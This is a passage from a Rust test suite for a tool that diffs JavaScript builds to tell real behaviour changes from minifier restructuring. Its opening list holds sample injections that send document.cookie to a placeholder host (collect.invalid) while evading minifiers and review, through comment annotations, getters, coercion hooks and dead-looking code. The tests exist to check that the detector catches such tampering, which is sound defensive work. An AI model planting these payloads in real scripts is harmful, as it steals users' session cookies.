        // Pure annotations are comments: the attacker writes them.
        "/*#__PURE__*/ navigator.sendBeacon('https://collect.invalid/x', document.cookie);",
        "/*#__PURE__*/ new Image().src = 'https://collect.invalid/x?' + document.cookie;",
        "var send = /* @__NO_SIDE_EFFECTS__ */ function (d) { navigator.sendBeacon('https://collect.invalid/x', d); }; send(document.cookie);",
        "/* @__NO_SIDE_EFFECTS__ */ function leak(d) { fetch('https://collect.invalid/x', {method: 'POST', body: d}); } leak(document.cookie);",
        // A getter runs on a property read.
        "var o = { get v() { navigator.sendBeacon('https://collect.invalid/x', document.cookie); } }; o.v;",
        "Object.defineProperty(root, 'q', { get: function () { fetch('https://collect.invalid/x'); } }); root.q;",
        // Coercions call `toString`, `valueOf` or `Symbol.toPrimitive`.
        "'' + { toString: function () { navigator.sendBeacon('https://collect.invalid/x', document.cookie); return ''; } };",
        "({ valueOf: function () { navigator.sendBeacon('https://collect.invalid/x', document.cookie); return 1; } }) == 1;",
        "var p = { valueOf: function () { fetch('https://collect.invalid/x'); return 1; } }; p < 2;",
        "`${{ toString() { fetch('https://collect.invalid/x'); return ''; } }}`;",
        "({ [Symbol.toPrimitive]() { fetch('https://collect.invalid/x'); return 1; } }) * 2;",
        // Dead-looking code that runs: a hoisted function, a `finally`.
        "setTimeout(later, 1); return; function later() { fetch('https://collect.invalid/x'); }",
        "try { } finally { fetch('https://collect.invalid/x'); }",
        "if (typeof document === 'object') fetch('https://collect.invalid/x');",
        // `debugger` and `console` stay.
        "console.log(document.cookie);",
    ];

    #[test]
    fn hidden_injections_are_changes() {
        let clean = analyse(SOURCE);
        for code in HIDDEN {
            let dirty = injected(code);
            let d = ScriptDiff::between("a.js", &clean, "b.js", &analyse(&dirty));
            assert!(
                d.behaviour_changed && !d.converged_after_compression,
                "{code}: {}",
                d.to_text()
            );
        }
    }

    /// The compressor alone (without the name check) keeps what runs: annotated calls,
    /// getters, concatenation and template strings, `Symbol.toPrimitive`, hoisted functions.
    /// Comparisons on an object whose result is unused are the exception: oxc assumes
    /// `valueOf` is pure and drops them, and only the name check (the test above) sees them.
    #[test]
    fn the_compressor_keeps_what_runs_but_comparisons() {
        for code in HIDDEN {
            let comparison = code.contains(") == 1;") || code.contains("p < 2;");
            assert_eq!(
                compressed_differs(code),
                !comparison,
                "{code} (if oxc now keeps a comparison, say so in canonical.rs)"
            );
        }
    }

    /// Reusing only names the library already has, as often as it has them, is still seen
    /// when the compressor keeps the code (here: a call with its effect).
    #[test]
    fn reused_names_still_count() {
        let clean = analyse(SOURCE);
        // `each` and `root.lib` exist in the library; calling them again is new behaviour.
        let dirty = injected("setTimeout(function () { root.lib.each([1], get); }, 1);");
        let d = ScriptDiff::between("a.js", &clean, "b.js", &analyse(&dirty));
        assert!(d.behaviour_changed, "{}", d.to_text());
        // A call of the library's own function, with its own variables: no name at all,
        // but one call more.
        let dirty = SOURCE.replace("root.lib =", "each(root, get); root.lib =");
        let b = analyse(&dirty);
        let d = ScriptDiff::between("a.js", &clean, "b.js", &b);
        assert!(d.behaviour_changed && !d.restructured, "{}", d.to_text());
        assert_eq!(names_more_often(&clean, &b), vec![(CALLS.to_owned(), 2, 3)]);
    }

    /// A library and what terser (compress, mangle) makes of it: a small function that
    /// returns an object literal inlined where it is called, the IIFE's constant argument
    /// and a constant key written as members, a compound assignment on an assigned target.
    const LIBRARY: &str = r#"
        (function (root, name) {
            var CLICK = "click";
            function hooks() { return { before: [], after: [] }; }
            function Lib(el) { this.el = el; this.hooks = hooks(); this.state = {}; this.state[CLICK] = false; }
            Lib.prototype.reset = function () { this.hooks = hooks(); var n = this.copy(); n.dir *= -1; return n; };
            Lib.prototype.copy = function () { return new Lib(this.el); };
            Lib.prototype.later = function (fn) { setTimeout(function () { fn("ready"); }, 1); };
            root[name] = Lib;
        })(window, "Lib");
    "#;
    const BY_TERSER: &str = "!function(t){function e(t){this.el=t,this.hooks={before:[],after:[]},this.state={},this.state.click=!1}e.prototype.reset=function(){var t;return this.hooks={before:[],after:[]},(t=this.copy()).dir*=-1,t},e.prototype.copy=function(){return new e(this.el)},e.prototype.later=function(t){setTimeout(function(){t(\"ready\")},1)},t.Lib=e}(window);";

    #[test]
    fn another_minifier_restructures_without_naming_more() {
        let (a, b) = (analyse(LIBRARY), analyse(BY_TERSER));
        let d = ScriptDiff::between("a.js", &a, "b.js", &b);
        assert!(!d.behaviour_changed, "{}", d.to_text());
        assert!(
            d.restructured && !d.converged_after_compression,
            "{}",
            d.to_text()
        );
        assert!(d.to_text().contains("restructured"), "{}", d.to_text());
        assert!(d.added_units > 0 && d.removed_units > 0);
        assert_eq!(
            serde_json::to_value(&d).unwrap_or_default()["restructured"],
            true
        );
        assert!(names_more_often(&a, &b).is_empty());
    }

    /// What is added to a restructured build still counts: a member read the library
    /// already has, a new global. (Calls are counted together, so a call of the library's
    /// own function added where the minifier inlined others is not seen: see the module.)
    #[test]
    fn additions_to_a_restructured_build_are_changes() {
        let clean = analyse(LIBRARY);
        for (from, to, what) in [
            (
                "return new e(this.el)",
                "return this.el,new e(this.el)",
                "el",
            ),
            ("t.Lib=e}", "t.Lib=e,t.Lib.sent=location}", "location"),
        ] {
            let dirty = BY_TERSER.replace(from, to);
            assert_ne!(dirty, BY_TERSER);
            let b = analyse(&dirty);
            let d = ScriptDiff::between("a.js", &clean, "b.js", &b);
            assert!(
                d.behaviour_changed && !d.restructured,
                "{to}: {}",
                d.to_text()
            );
            let more = names_more_often(&clean, &b);
            assert!(more.iter().any(|(n, _, _)| n == what), "{to}: {more:?}");
        }
    }

    /// A small function copied into each place it is called names what its body names once
    /// per copy, and removes the calls: restructured. The same names added without calls
    /// going away are a change.
    #[test]
    fn a_function_copied_into_its_callers_is_restructured() {
        let source = r#"(function () {
            function dir() { return document.documentElement.dir; }
            window.a = function () { return dir() == "rtl"; };
            window.b = function (x) { return dir() ? x : 0; };
            window.c = function () { return [dir()]; };
        })();"#;
        let copied = r#"!function(){window.a=function(){return"rtl"==document.documentElement.dir},window.b=function(n){return document.documentElement.dir?n:0},window.c=function(){return[document.documentElement.dir]}}();"#;
        let old = analyse(source);
        let d = ScriptDiff::between("a.js", &old, "b.js", &analyse(copied));
        assert!(!d.behaviour_changed && d.restructured, "{}", d.to_text());
        // The same reads added, every call kept: nothing was copied.
        let added = source.replace(
            "return [dir()];",
            "return [dir(), document.documentElement.dir, document.documentElement.dir];",
        );
        let d = ScriptDiff::between("a.js", &old, "c.js", &analyse(&added));
        assert!(d.behaviour_changed, "{}", d.to_text());
        // More occurrences than copies are ever asked to explain: a change at once.
        let flood = format!("{copied}{}", "document.documentElement.dir;".repeat(5000));
        let d = ScriptDiff::between("a.js", &old, "d.js", &analyse(&flood));
        assert!(d.behaviour_changed, "{}", d.to_text());
    }

    /// A function that stores under the name it is passed, copied into its calls, writes
    /// those names as members (`F("date", 9)` becomes `H.date = 9`): restructured. A member
    /// no call passed, or the same members with every call kept, is a change.
    #[test]
    fn strings_passed_to_a_copied_function_may_become_member_names() {
        let source = r#"(function () {
            var H = {};
            function F(e, t) { H[e] = t; }
            F("date", 9); F("day", 8); F("hour", 7);
            window.units = H;
        })();"#;
        let copied = r#"!function(){var H={};function F(e,t){H[e]=t}H.date=9,H.day=8,F("hour",7),window.units=H}();"#;
        let old = analyse(source);
        let d = ScriptDiff::between("a.js", &old, "b.js", &analyse(copied));
        assert!(!d.behaviour_changed && d.restructured, "{}", d.to_text());
        // A member no call passes.
        let other = copied.replace("H.day=8", "H.cookie=8");
        let d = ScriptDiff::between("a.js", &old, "c.js", &analyse(&other));
        assert!(d.behaviour_changed, "{}", d.to_text());
        // The members written with every call kept: nothing was copied.
        let kept = copied.replace(
            "H.date=9,H.day=8,",
            r#"F("date",9),F("day",8),H.date=9,H.day=8,"#,
        );
        let d = ScriptDiff::between("a.js", &old, "d.js", &analyse(&kept));
        assert!(d.behaviour_changed, "{}", d.to_text());
    }

    #[test]
    fn too_big_for_the_compressor_is_counted_as_served() {
        let pad = format!("/*{}*/", " ".repeat(canonical::MAX_CANONICAL_BYTES));
        let big_text = format!("{SOURCE}{pad}");
        let big = analyse(&big_text);
        let d = ScriptDiff::between("a.js", &big, "b.js", &analyse(REBUILT));
        assert!(d.comparable && !d.behaviour_changed, "{}", d.to_text());
        assert!(d.restructured && !d.converged_after_compression);
        let dirty = REBUILT.replace("n.lib=", "navigator.sendBeacon(n.lib),n.lib=");
        let d = ScriptDiff::between("a.js", &big, "c.js", &analyse(&dirty));
        assert!(d.behaviour_changed && !d.restructured, "{}", d.to_text());
    }
}
